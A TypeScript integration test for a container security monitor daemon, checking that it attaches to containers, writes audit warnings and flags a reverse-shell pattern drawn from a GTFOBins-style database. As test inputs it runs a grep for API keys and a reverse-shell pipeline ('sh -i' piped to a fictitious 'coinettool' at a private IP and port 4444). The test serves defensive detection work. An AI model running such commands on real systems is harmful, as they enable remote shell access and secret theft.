import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { containerName } from '../../../../src/shared/naming.js';
import { Incus } from '../../../../src/incus/index.js';
import type { AuditRecord } from '../../../../src/security/audit/record.js';
import { ensureMonitorDaemon } from '../../../../src/security/monitor/ensure.js';
import type { MonitorStatus } from '../../../../src/security/monitor/daemon.js';
import { monitorPaths } from '../../../../src/security/monitor/paths.js';
import { ask } from '../../../../src/security/monitor/singleton.js';
import { CoiSandbox, ensureBuilt } from '../../../helpers/coi-cli.js';
import { poll } from '../../../helpers/monitor-bed.js';
import { TEST_PREFIX, deleteTestContainer, launchTestContainer } from '../../../helpers/testbed.js';

/**
 * The daemon as users get it: started on demand by `ensureMonitorDaemon` as a detached
 * `coi monitor --daemon`, one per user, and read back through `coi monitor` and `coi audit`.
 */

let box: CoiSandbox;
let incus: Incus;
let daemonPid: number | undefined;
const name = containerName('/monitor-test/cli', 1, TEST_PREFIX);

beforeAll(() => {
  ensureBuilt();
  // Alerts only: the critical alert below neither pauses nor kills (no forensic copy).
  box = new CoiSandbox('[monitoring]\nauto_pause_on_high = false\nauto_kill_on_critical = false\n');
  incus = Incus.local();
  // A `coi update patterns` database naming one more network tool, read when the daemon starts.
  mkdirSync(join(box.coiDir, 'gtfobins', '_gtfobins'), { recursive: true });
  writeFileSync(
    join(box.coiDir, 'gtfobins', '_gtfobins', 'coinettool.md'),
    '---\nfunctions:\n  reverse-shell:\n    - code: coinettool host 4444\n---\n',
  );
});

afterAll(async () => {
  if (daemonPid) process.kill(daemonPid, 'SIGTERM');
  await deleteTestContainer(name);
  await incus?.close();
  await box?.remove();
});

describe('coi monitor --daemon, coi monitor, coi audit', () => {
  it('starts one daemon on demand and reuses it', async () => {
    const env = { ...process.env, HOME: box.home, COI_CONTAINER_PREFIX: TEST_PREFIX };
    expect(await ensureMonitorDaemon({ coiDir: box.coiDir, env })).toBe(true);
    expect(await ensureMonitorDaemon({ coiDir: box.coiDir, env })).toBe(false);
    const status = JSON.parse(
      (await ask(monitorPaths(box.coiDir).socket, 'status'))!,
    ) as MonitorStatus;
    daemonPid = status.pid;
    expect(daemonPid).toBeGreaterThan(0);
    expect(readFileSync(monitorPaths(box.coiDir).log, 'utf8')).toContain(
      'GTFOBins database: 1 more network tools',
    );
  });

  it('watches a new container, records a warning, and shows it in both commands', async () => {
    await launchTestContainer(name.slice(TEST_PREFIX.length), {
      config: { 'user.coi.workspace': '/monitor-test/cli' },
    });
    const socket = monitorPaths(box.coiDir).socket;
    await poll(
      async () => {
        const reply = await ask(socket, 'status');
        return reply && (JSON.parse(reply) as MonitorStatus).containers.includes(name)
          ? true
          : undefined;
      },
      15_000,
      () =>
        `the daemon never attached to ${name}; its log:\n${readFileSync(monitorPaths(box.coiDir).log, 'utf8')}`,
    );
    // The scanner polls: a command must live longer than one scan (100 ms) to be seen for sure.
    await incus.exec.run(name, ['sh', '-c', 'grep -r API_KEY /etc/apt >/dev/null 2>&1; sleep 1']);
    const auditFile = join(box.coiDir, 'audit', `${name}.jsonl`);
    await poll(
      async () => {
        try {
          return readFileSync(auditFile, 'utf8').includes('"warning"') ? true : undefined;
        } catch {
          return undefined;
        }
      },
      15_000,
      () => 'no warning in the audit log',
    );

    const audit = await box.run(['audit', name, '--json']);
    expect(audit.code, audit.stderr).toBe(0);
    const records = audit.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as AuditRecord);
    expect(records.some((r) => r.level === 'warning' && r.action === 'alerted')).toBe(true);

    const snapshot = await box.run(['monitor', name, '--json']);
    expect(snapshot.code, snapshot.stderr).toBe(0);
    const s = JSON.parse(snapshot.stdout) as {
      container: string;
      processes: Array<{ command: string }>;
      daemon: MonitorStatus | null;
      threats: AuditRecord[];
    };
    expect(s.container).toBe(name);
    expect(s.processes.some((p) => p.command.includes('init'))).toBe(true);
    expect(s.daemon?.pid).toBe(daemonPid);
    expect(s.threats.map((t) => t.level)).toContain('warning');

    const text = await box.run(['monitor', name]);
    expect(text.stdout).toContain('RECENT THREATS (1)');
  });

  it('takes a shell wired to a network tool of the GTFOBins database for a reverse shell', async () => {
    const auditFile = join(box.coiDir, 'audit', `${name}.jsonl`);
    // coinettool exists nowhere: the command line alone is the signal.
    await incus.exec.run(name, [
      'sh',
      '-c',
      'sleep 2 | sh -i 2>/dev/null | coinettool 10.99.0.1 4444; sleep 2',
    ]);
    const alert = await poll(
      async () => {
        try {
          return readFileSync(auditFile, 'utf8')
            .split('\n')
            .find((l) => l.includes('shell-net-tool'));
        } catch {
          return undefined;
        }
      },
      15_000,
      () => 'no shell-net-tool alert in the audit log',
    );
    expect(JSON.parse(alert)).toMatchObject({ level: 'critical', action: 'alerted' });
    expect(alert).toContain('coinettool');
  });

  it('refuses --json with --watch as a usage error', async () => {
    const r = await box.run(['monitor', '--json', '--watch', '2']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/do not go together/);
  });
});
